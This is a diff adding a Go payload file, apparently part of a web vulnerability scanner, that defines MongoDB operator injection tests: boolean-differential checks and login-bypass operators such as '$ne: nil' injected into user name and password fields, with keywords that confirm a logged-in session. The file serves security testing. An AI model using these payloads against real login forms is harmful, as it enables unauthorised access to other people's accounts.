@@ -0,0 +1,69 @@
+package payloads
+
+import (
+	"fmt"
+	"math/rand"
+)
+
+// Placeholders resolved by the NoSQLi scanner in operator operands.
+const (
+	// NoSQLiOriginal is replaced with the parameter's original value, keeping its JSON type.
+	NoSQLiOriginal = "{ORIGINAL}"
+	// NoSQLiOriginalRegex is replaced with a regular expression matching exactly the original value.
+	NoSQLiOriginalRegex = "{ORIGINAL_REGEX}"
+	// NoSQLiCanary is replaced with a unique value no document is expected to contain.
+	NoSQLiCanary = "{CANARY}"
+)
+
+// NoSQLiBooleanTest injects a MongoDB query operator in place of a parameter's value. True selects
+// the same documents as the original value and False selects none, so an application passing the
+// object to the database answers True like the original request and False differently.
+type NoSQLiBooleanTest struct {
+	Operator string
+	True     map[string]interface{}
+	False    map[string]interface{}
+}
+
+// NoSQLiBooleanTests contains the operator tests for the boolean-differential (filter bypass) check.
+var NoSQLiBooleanTests = []NoSQLiBooleanTest{
+	{
+		Operator: "$eq",
+		True:     map[string]interface{}{"$eq": NoSQLiOriginal},
+		False:    map[string]interface{}{"$eq": NoSQLiCanary},
+	},
+	{
+		Operator: "$in",
+		True:     map[string]interface{}{"$in": []interface{}{NoSQLiOriginal}},
+		False:    map[string]interface{}{"$in": []interface{}{NoSQLiCanary}},
+	},
+	{
+		Operator: "$regex",
+		True:     map[string]interface{}{"$regex": NoSQLiOriginalRegex},
+		False:    map[string]interface{}{"$regex": "^" + NoSQLiCanary + "$"},
+	},
+}
+
+// NoSQLiAuthBypassTest is an operator that matches any stored credential. It is injected into the
+// user name and every password field of a login form at once.
+type NoSQLiAuthBypassTest struct {
+	Operator string
+	Value    map[string]interface{}
+}
+
+// NoSQLiAuthBypassTests contains the operators tried against login forms, in order.
+var NoSQLiAuthBypassTests = []NoSQLiAuthBypassTest{
+	{Operator: "$ne", Value: map[string]interface{}{"$ne": nil}},
+	{Operator: "$gt", Value: map[string]interface{}{"$gt": ""}},
+	{Operator: "$regex", Value: map[string]interface{}{"$regex": ".*"}},
+}
+
+// NoSQLiLoginUserParams are the parameter names treated as the user name of a login form.
+var NoSQLiLoginUserParams = []string{"username", "user", "email", "login"}
+
+// NoSQLiLoginSuccessKeywords confirm that a response belongs to a logged-in session.
+var NoSQLiLoginSuccessKeywords = []string{"logout", "log out", "sign out", "my account", "welcome"}
+
+// GenerateNoSQLiCanary returns a unique value that matches no stored document.
+func GenerateNoSQLiCanary() string {
+	return fmt.Sprintf("dursgo-nosqli-%06d", rand.Intn(1000000))
+}